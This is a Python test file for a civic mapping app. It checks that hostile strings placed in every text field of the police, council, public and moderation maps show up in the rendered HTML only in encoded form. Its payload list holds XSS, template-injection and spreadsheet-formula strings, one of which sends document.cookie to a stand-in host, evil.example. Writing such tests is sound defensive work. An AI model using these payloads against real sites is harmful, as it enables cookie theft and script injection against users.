"""Every map (police, council, public, moderation) rendered with hostile text in every text
field: no value reaches the HTML except in its encoded form, and no HTML sink is used."""

from __future__ import annotations

import copy
import re
from datetime import UTC, datetime

import pandas as pd
import pytest
from test_layers_privacy import make_addresses, make_reports, released
from test_layers_public import GAZETTEER_JSON

from encoders import html_text, js_value, visible_controls
from geo.gazetteer import Gazetteer
from layers import council, police
from layers.privacy import MIN_SURVEY_N, Month, Quarter, public_table
from layers.public import public_map

# Each one carries "pwned": after the encoded forms are taken out, that word must be gone.
HOSTILE = [
    "${window.pwned=1}",
    "`;window.pwned=1;`",
    "${fetch('//evil.example/?'+document.cookie)}//pwned",
    "</script><script>window.pwned=1</script>",
    '<img src=x onerror="window.pwned=1">',
    "'\"><svg onload=window.pwned=1>",
    "\\`${pwned}",
    "{{ pwned }} {% if 1 %}",
    "{{ 7*7 }}pwned{{ cycler.__init__.__globals__.os.getpid() }}",
    "![x](https://evil.example/pwned.png)",
    '=HYPERLINK("http://evil.example/pwned")',
    "\u202epwned.exe\x1b[2J\x00\u2028",
]


def encoded_forms(value: str) -> list[str]:
    """How a value may legitimately appear: as JSON string content for a script (the text
    itself, or its HTML encoding for a legend's innerHTML; cells are stripped of spaces)."""
    return [js_value(encode(v))[1:-1] for v in (value, value.strip()) for encode in (visible_controls, html_text)]


def assert_only_encoded(html: str, values: list[str]) -> None:
    rest = html
    for value in values:
        forms = encoded_forms(value)
        assert any(f in rest for f in forms), f"{value!r} is not on the map at all"
        for form in forms:
            rest = rest.replace(form, "")
    assert "pwned" not in rest, rest[max(0, rest.find("pwned") - 300) : rest.find("pwned") + 100]
    flat = re.sub(r"\s+", "", html)
    for sink in ("$(`", "bindTooltip(`", "bindPopup(`", "GeoJsonTooltip", "GeoJsonPopup", ".innerHTML=`"):
        assert sink not in flat, sink
    assert "\u202e" not in html and "\x1b" not in html and "\x00" not in html


def hostile_gazetteer() -> Gazetteer:
    gz = copy.deepcopy(GAZETTEER_JSON)
    for i, d in enumerate(gz["districts"]):
        d["name"] = HOSTILE[i % len(HOSTILE)]
        d["names"] = {"name:en": HOSTILE[(i + 1) % len(HOSTILE)]}
    return Gazetteer.from_dict(gz)


def hostile_reports(seed: int = 3) -> pd.DataFrame:
    df = make_reports(seed, 3 * len(HOSTILE))
    df["text"] = [HOSTILE[i % len(HOSTILE)] for i in range(len(df))]
    df["level"] = [HOSTILE[(i + 3) % len(HOSTILE)] for i in range(len(df))]
    df["status"] = "new"
    df["duplicate_of"] = pd.array([None] * len(df), dtype="Int64")
    df["occurred_at"] = [datetime(2026, 2, 1 + i % 27, 12, tzinfo=UTC) for i in range(len(df))]
    df["uncertainty_m"] = 50.0
    return df


def hostile_actions() -> pd.DataFrame:
    rows = []
    for i, value in enumerate(HOSTILE):
        rows.append(
            {
                "cell": "891e43a500fffff" if i % 2 else None,
                "district": None if i % 2 else "d-02",
                "owner": "council",
                "owner_org": value,
                "description": value,
                "status": "done",
                "public_note": value,
                "due_date": value,
            }
        )
    rows.append(
        {
            "cell": "891e43a500fffff",
            "district": None,
            "owner": "council",
            "owner_org": None,
            "description": "x",
            "status": HOSTILE[0],
            "public_note": None,
            "due_date": None,
        }
    )
    return pd.DataFrame(rows)


def test_police_map_shows_hostile_report_texts_only_as_text() -> None:
    df = hostile_reports()
    m = police.police_map(
        hostile_gazetteer(),
        role="police",
        period_label="2026-02",
        lang="en",
        reports=df,
        points_window=(datetime(2026, 2, 1, tzinfo=UTC), datetime(2026, 3, 1, tzinfo=UTC)),
    )
    html = m.get_root().render()
    assert_only_encoded(html, HOSTILE)
    assert "bindPopup(function()" in html and "textContent" in html


@pytest.mark.parametrize("lang", ["uk", "en"])
def test_council_map_shows_hostile_places_actions_and_names_only_as_text(lang) -> None:
    gz = hostile_gazetteer()
    meetings = pd.DataFrame([{"place": v, "date": v, "attendees": v, "lat": 47.56, "lon": 31.32} for v in HOSTILE])
    survey = pd.DataFrame(
        [
            {"wave": w, "district": d.name, "trust_police": 3.0}
            for w in ("1", "2")
            for d in gz.districts
            for _ in range(MIN_SURVEY_N)
        ]
    )
    m = council.council_map(
        gz,
        role="council",
        period=Month(2026, 2),
        lang=lang,
        reports=make_reports(8, 160),
        actions=hostile_actions(),
        survey=survey,
        wave="2",
        previous_wave="1",
        meetings=meetings,
    )
    assert_only_encoded(m.get_root().render(), HOSTILE)


@pytest.mark.parametrize("lang", ["uk", "en"])
def test_public_map_shows_hostile_notes_and_district_names_only_as_text(lang) -> None:
    table = public_table(released(make_reports(7, 150), make_addresses(7)), period=Quarter(2026, 1), group=None)
    for view in ("cells", "districts"):
        m = public_map(table, hostile_gazetteer(), lang=lang, actions=hostile_actions(), view=view)
        assert_only_encoded(m.get_root().render(), HOSTILE)


def test_moderation_map_has_no_text_sink() -> None:
    from services.maps import click_map

    html = click_map(marker=(47.566, 31.33)).get_root().render()
    flat = re.sub(r"\s+", "", html)
    assert "$(`" not in flat and "bindPopup(" not in flat and "bindTooltip(`" not in flat


def test_legend_and_label_text_is_html_encoded() -> None:
    import folium

    from layers.style import label_control, legend

    m = folium.Map(tiles=None)
    legend(HOSTILE[4], [("#000000", HOSTILE[3])], unit=HOSTILE[5], period=HOSTILE[0]).add_to(m)
    label_control(HOSTILE[2]).add_to(m)
    assert_only_encoded(m.get_root().render(), [HOSTILE[i] for i in (0, 2, 3, 4, 5)])
